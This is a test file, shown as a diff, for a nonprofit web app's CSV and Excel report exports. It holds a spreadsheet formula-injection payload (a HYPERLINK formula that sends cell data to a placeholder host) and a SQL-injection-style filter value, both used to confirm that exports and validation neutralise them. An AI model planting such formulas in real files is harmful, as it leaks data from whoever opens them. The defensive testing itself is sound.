@@ -1,0 +1,337 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { type CallAnswer, type TestApp, testApp } from '../../../tests/support/app.ts'
+import { readCsv } from '../../../tests/support/csv.ts'
+import { testDatabases } from '../../../tests/support/database.ts'
+import { dateOfSerial, readWorkbook } from '../../../tests/support/workbook.ts'
+import { puertoRicoDay } from '../../lib/dates.ts'
+import { accountingTransactions } from '../accounting/tables.server.ts'
+import { boxRequestStatuses } from '../box-requests/contract.ts'
+import { boxRequests } from '../box-requests/tables.server.ts'
+import { contactMessages } from '../contact/tables.server.ts'
+import { donations } from '../donations/tables.server.ts'
+import { eventRegistrations, events } from '../events/tables.server.ts'
+import { volunteers } from '../volunteers/tables.server.ts'
+import { type ReportType, reportApi, reportFilters, reportTypes } from './contract.ts'
+import { takenReports } from './service.server.ts'
+
+const evil = '=HYPERLINK("http://x.example/?"&A1,"María")'
+const at = (day: string) => new Date(`${day}T23:30:00-04:00`)
+
+describe.each(testDatabases())('reports on %s', (kind) => {
+  let api: TestApp
+  let marchEvent: number
+  beforeAll(async () => {
+    api = await testApp(kind)
+    marchEvent = await fill(api)
+  })
+  afterAll(() => api.close())
+  beforeEach(() => takenReports(api.services).clear(String(api.admin.id)))
+
+  const count = async (type: ReportType, query: object = {}) =>
+    (await api.call(reportApi.count, { as: true, params: { type }, query: { ...query } })).body.rows
+  const download = (type: string, query: object = {}) =>
+    api.call(reportApi.download, { as: true, params: { type }, query: { ...query } })
+  const csv = async (type: ReportType, query: object = {}) =>
+    readCsv((await download(type, { format: 'csv', ...query })).raw).rows
+  const column = (rows: string[][], header: string) =>
+    rows.slice(1).map((row) => row[rows[0]!.indexOf(header)])
+
+  test.each([
+    ['volunteers', {}, 3],
+    ['volunteers', { volunteerStatus: 'approved' }, 1],
+    ['volunteers', { status: 'pending' }, 1],
+    ['volunteers', { volunteerStatus: 'all', dateFrom: '', dateTo: 'all' }, 3],
+    ['volunteers', { dateFrom: '2026-03-01', dateTo: '2026-03-31' }, 2],
+    ['volunteers', { dateFrom: '2026-03-31' }, 2],
+    ['volunteers', { dateTo: '2026-03-30' }, 1],
+    ['volunteers', { name: 'maria' }, 1],
+    ['volunteers', { name: '%' }, 0],
+    ['volunteers', { email: 'JOSE@' }, 1],
+    ['events', {}, 2],
+    ['events', { status: 'active' }, 1],
+    ['events', { status: 'inactive' }, 1],
+    ['events', { dateFrom: '2026-03-01', dateTo: '2026-03-31' }, 1],
+    ['event-registrations', {}, 3],
+    ['event-registrations', { status: 'confirmed' }, 1],
+    ['event-registrations', { email: 'luz@' }, 1],
+    ['event-registrations', { name: 'núñez' }, 1],
+    ['donations', {}, 3],
+    ['donations', { status: 'completed' }, 2],
+    ['donations', { status: 'pending' }, 1],
+    ['donations', { method: 'check' }, 1],
+    ['donations', { donorName: 'perez' }, 1],
+    ['donations', { donorEmail: 'iris@' }, 1],
+    ['donations', { email: 'iris@' }, 1],
+    ['donations', { dateFrom: '2026-03-15', dateTo: '2026-03-15' }, 1],
+    ['contact-messages', {}, 2],
+    ['contact-messages', { subject: 'PREGUNTA' }, 1],
+    ['contact-messages', { status: 'answered' }, 1],
+    ['contact-messages', { name: 'ana' }, 1],
+    ['hope-in-a-box', {}, 6],
+    ['hope-in-a-box', { status: 'pending' }, 1],
+    ['hope-in-a-box', { status: 'approved' }, 1],
+    ['hope-in-a-box', { status: 'in_process' }, 1],
+    ['hope-in-a-box', { status: 'delivered' }, 1],
+    ['hope-in-a-box', { name: 'solicita 2' }, 1],
+  ] as [ReportType, object, number][])('%s with %o has %i rows', async (type, query, rows) => {
+    expect(await count(type, query)).toBe(rows)
+    expect((await csv(type, query)).length - 1).toBe(rows)
+  })
+
+  test('one event’s registrations', async () => {
+    expect(await count('event-registrations', { eventId: marchEvent })).toBe(2)
+    expect(column(await csv('event-registrations', { eventId: marchEvent }), 'Evento')).toEqual([
+      'Círculo de apoyo',
+      'Círculo de apoyo',
+    ])
+  })
+
+  test('newest first, whatever list a donation comes from', async () => {
+    const rows = await csv('donations')
+    const dates = column(rows, 'Fecha') as string[]
+    expect(dates).toEqual([...dates].sort().reverse())
+    expect(column(rows, 'Donante')).toContain('Donación Anónima')
+    // RULINGS 24: a verified intent and its transaction are one donation.
+    expect(column(rows, 'Monto')).toEqual(['100.00', '50.00', '25.50'])
+  })
+
+  test('a CSV opens in Excel with its accents, and nothing in it runs', async () => {
+    const answer = await download('volunteers', { format: 'csv' })
+    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
+    expect(answer.headers['content-disposition']).toBe(
+      `attachment; filename="volunteers-${puertoRicoDay(new Date())}.csv"`,
+    )
+    expect(answer.headers['cache-control']).toBe('no-store')
+    const { rows, hasBom } = readCsv(answer.raw)
+    expect(hasBom).toBe(true)
+    expect(column(rows, 'Talento')).toContain(`'${evil}`)
+    expect(column(rows, 'Teléfono')).toContain("'+1 787 555 0182")
+    expect(column(rows, 'Disponibilidad')).toContain('Sábados, "todo" el día\ny domingos')
+    expect(column(rows, 'Fecha')).toContain('2026-03-31 23:30')
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+  })
+
+  test('a workbook holds typed cells, a frozen header and widths, and no formula', async () => {
+    const answer = await download('volunteers', { format: 'excel' })
+    expect(answer.headers['content-type']).toMatch(/spreadsheetml/)
+    expect(answer.headers['content-disposition']).toMatch(/filename="volunteers-\d{4}-\d\d-\d\d\.xlsx"/)
+    const sheet = readWorkbook(answer.raw)
+    expect(sheet.name).toBe('Voluntarios')
+    expect(sheet.frozenRows).toBe(1)
+    expect(sheet.widths).toHaveLength(sheet.columns)
+    const cells = sheet.rows.flat()
+    expect(cells.some(({ formula }) => formula)).toBe(false)
+    expect(cells.some(({ value, type }) => value === evil && type === 'inlineStr')).toBe(true)
+    const dates = sheet.rows.slice(1).map((row) => row[0]!)
+    expect(dates.map(({ type }) => type)).toEqual(['n', 'n', 'n'])
+    expect(dates[0]!.format).toMatch(/mmm/)
+    expect(dates.map(({ value }) => dateOfSerial(Number(value)).toISOString())).toContain(
+      '2026-03-31T23:30:00.000Z',
+    )
+  })
+
+  test.each(reportTypes)('%s: the workbook says the same as the CSV, cell by cell', async (type) => {
+    const plain = await csv(type)
+    const sheet = readWorkbook((await download(type, { format: 'excel' })).raw)
+    expect(sheet.rows.map((row) => plain[0]!.map((_, i) => asCsv(row[i])))).toEqual(
+      plain.map((row) => row.map((cell) => cell.replace(/^'(?=[=+\-@])/, ''))),
+    )
+  })
+
+  test('numbers and money are numbers', async () => {
+    const sheet = readWorkbook((await download('donations', { format: 'excel' })).raw)
+    const money = sheet.rows[0]!.findIndex(({ value }) => value === 'Monto')
+    expect(sheet.rows.slice(1).map((row) => row[money]!.type)).toEqual(['n', 'n', 'n'])
+    expect(sheet.rows[1]![money]!.format).toBe('"$"#,##0.00')
+  })
+
+  test('refuses what cannot be meant', async () => {
+    expect((await download('secrets')).status).toBe(404)
+    expect((await api.call('GET /api/reports/secrets/count', { as: true })).status).toBe(404)
+    for (const query of [
+      { format: 'pdf' },
+      { dateFrom: '31/03/2026' },
+      { dateFrom: '2026-02-30' },
+      { dateFrom: '2026-04-01', dateTo: '2026-03-01' },
+      { volunteerStatus: 'shipped' },
+      { status: "x' or 1=1" },
+    ]) {
+      const answer = await download('volunteers', query)
+      expect(answer.status, JSON.stringify(query)).toBe(400)
+      expect(answer.body.errors).toHaveLength(1)
+    }
+    expect((await download('event-registrations', { eventId: 'x' })).status).toBe(400)
+  })
+
+  test('a stranger gets nothing', async () => {
+    for (const type of reportTypes) {
+      expect((await api.call(reportApi.download, { params: { type } })).status).toBe(401)
+      expect((await api.call(reportApi.count, { params: { type } })).status).toBe(401)
+    }
+  })
+
+  test('the history keeps who took which report, without the names looked for', async () => {
+    await download('volunteers', { format: 'excel', name: 'maría', dateFrom: '2026-03-01' })
+    const [entry] = (await api.call('GET /api/history', { as: true, query: { entity: 'report' } })).body
+    expect(entry.userName).toBe('Ana Prueba')
+    expect(entry.action).toBe('exported')
+    expect(entry.changes).toEqual({
+      report: [null, 'volunteers'],
+      format: [null, 'excel'],
+      rows: [null, 1],
+      name: true,
+      dateFrom: [null, '2026-03-01'],
+    })
+  })
+
+  test('a filter that means nothing for a report narrows nothing', async () => {
+    expect(reportFilters.events).not.toContain('email')
+    expect(await count('events', { email: 'nadie@' })).toBe(2)
+  })
+
+  test('more than thirty a minute is a program', async () => {
+    const answers: CallAnswer[] = []
+    for (let i = 0; i < 31; i++) answers.push(await download('events'))
+    expect(answers.map(({ status }) => status)).toEqual([...Array(30).fill(200), 429])
+    expect(Number(answers[30]!.headers['retry-after'])).toBeGreaterThan(0)
+  })
+})
+
+type Read = ReturnType<typeof readWorkbook>['rows'][number][number]
+
+function asCsv(cell: Read | undefined): string {
+  if (!cell || cell.value === '') return ''
+  if (cell.type !== 'n') return cell.value
+  if (cell.format?.includes('h:mm'))
+    return dateOfSerial(Number(cell.value)).toISOString().slice(0, 16).replace('T', ' ')
+  return cell.format?.includes('0.00') ? Number(cell.value).toFixed(2) : cell.value
+}
+
+/** Two of most things around the end of March, and one donation of each kind. Answers the id of March's event. */
+async function fill({ ctx: { db }, admin }: TestApp): Promise<number> {
+  await db.insert(volunteers).values([
+    {
+      name: 'María Peña',
+      phone: '+1 787 555 0182',
+      town: 'Añasco',
+      talent: evil,
+      email: 'maria@example.org',
+      availability: 'Sábados, "todo" el día\ny domingos',
+      status: 'approved',
+      approvedAt: at('2026-03-31'),
+      approvedBy: admin.id,
+      createdAt: at('2026-03-31'),
+    },
+    { ...volunteer, name: 'José Ruiz', email: 'jose@example.org', createdAt: at('2026-03-01') },
+    { ...volunteer, name: 'Luz Cruz', status: 'rejected', createdAt: at('2026-04-01') },
+  ])
+  const [march, april] = await db
+    .insert(events)
+    .values([
+      {
+        title: 'Círculo de apoyo',
+        description: 'Una tarde',
+        eventDate: at('2026-03-31'),
+        maxParticipants: 5,
+      },
+      { title: '@Taller', description: 'Otro', eventDate: at('2026-04-01'), isActive: false },
+    ])
+    .returning({ id: events.id })
+  const person = { phone: '7875550100', createdAt: at('2026-03-01') }
+  await db.insert(eventRegistrations).values([
+    {
+      ...person,
+      eventId: march!.id,
+      reference: 'A',
+      fullName: 'Luz Núñez',
+      email: 'luz@x.org',
+      status: 'confirmed',
+    },
+    {
+      ...person,
+      eventId: march!.id,
+      reference: 'B',
+      fullName: '-Ana',
+      email: 'ana@x.org',
+      waitlistPosition: 2,
+    },
+    {
+      ...person,
+      eventId: april!.id,
+      reference: 'C',
+      fullName: 'Eva',
+      email: 'eva@x.org',
+      status: 'cancelled',
+    },
+  ])
+  const [transaction] = await db
+    .insert(accountingTransactions)
+    .values([
+      {
+        ...donated,
+        amount: '50.00',
+        occurredOn: '2026-03-20',
+        donationId: null,
+        donorName: 'Iris Pérez',
+        donorEmail: 'iris@x.org',
+      },
+      { ...donated, amount: '25.50', occurredOn: '2026-03-15', paymentMethod: 'check' },
+      { ...donated, type: 'income', amount: '9.00', occurredOn: '2026-03-15' },
+      { ...donated, amount: '8.00', occurredOn: '2026-03-15', archivedAt: at('2026-03-16') },
+    ])
+    .returning({ id: accountingTransactions.id })
+  await db.insert(donations).values({
+    reference: 'D',
+    amount: '100.00',
+    method: 'paypal',
+    anonymous: true,
+    status: 'pending',
+    createdAt: at('2026-04-02'),
+  })
+  await db.insert(donations).values({
+    reference: 'E',
+    amount: '50.00',
+    method: 'paypal',
+    donorName: 'Iris Pérez',
+    donorEmail: 'iris@x.org',
+    status: 'completed',
+    accountingTransactionId: transaction!.id,
+    createdAt: at('2026-03-20'),
+  })
+  await db.insert(contactMessages).values([
+    {
+      name: 'Ana',
+      email: 'ana@x.org',
+      subject: 'Pregunta',
+      message: '+ información\tpor favor',
+      status: 'answered',
+    },
+    { name: 'Rosa', email: 'rosa@x.org', subject: 'Hola', message: 'Gracias 🕊️ <b>&amp;</b>' },
+  ])
+  for (const [index, status] of boxRequestStatuses.entries()) {
+    await db.insert(boxRequests).values({
+      reference: `R${index}`,
+      status,
+      recipientName: `Familia ${index}`,
+      requesterName: `Solicita ${index}`,
+      phone: '7875550100',
+      email: 'familia@x.org',
+      town: 'Ponce',
+      boxPurpose: 'personal',
+      targetedFor: 'mama',
+      lossType: 'unica',
+      deliveryMethod: 'correo',
+    })
+  }
+  return march!.id
+}
+
+const volunteer = {
+  name: '',
+  phone: '7875550100',
+  town: 'Ponce',
+  talent: 'Escuchar y acompañar',
+  email: 'luz@example.org',
+  availability: 'Lunes',
+}
+const donated = { type: 'donation', description: 'Donación', category: 'general' } as const
